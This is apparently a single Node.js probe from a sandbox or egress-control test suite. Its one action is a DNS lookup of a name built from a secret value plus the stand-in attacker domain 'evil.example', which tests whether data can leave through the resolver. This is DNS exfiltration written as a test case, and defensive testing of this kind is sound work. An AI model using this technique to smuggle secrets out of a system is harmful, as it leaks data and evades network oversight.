// class: network
// rule: outbound_connectivity
// success: Node looks up a name that carries data, by its own resolver
// proof: query
// needs: resolver
'use strict';
const dns = require('dns/promises');
const { attempt, SECRET } = require('./attack.js');
attempt(async () => (await dns.resolve4(SECRET + '.evil.example')).length > 0);
